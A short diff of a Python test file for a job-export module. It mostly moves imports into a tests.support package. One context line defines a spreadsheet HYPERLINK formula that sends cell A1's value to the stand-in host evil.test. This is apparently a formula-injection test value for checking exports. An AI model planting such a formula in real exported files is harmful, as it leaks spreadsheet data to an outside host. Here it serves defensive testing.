@@ -6,9 +6,9 @@ from datetime import datetime, timezone
 import pytest
 
 from models.ops import exports
-from tests.conftest import wait_for
-from tests.dispatch_fixtures import Board
-from tests.export_fixtures import (JOB_COLUMNS, JOBS, bulk_jobs, csv_rows, export_files, exported, finished,
+from tests.support.waiting import wait_for
+from tests.support.dispatch import Board
+from tests.support.exports import (JOB_COLUMNS, JOBS, bulk_jobs, csv_rows, export_files, exported, finished,
                                    listed, start)
 
 FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
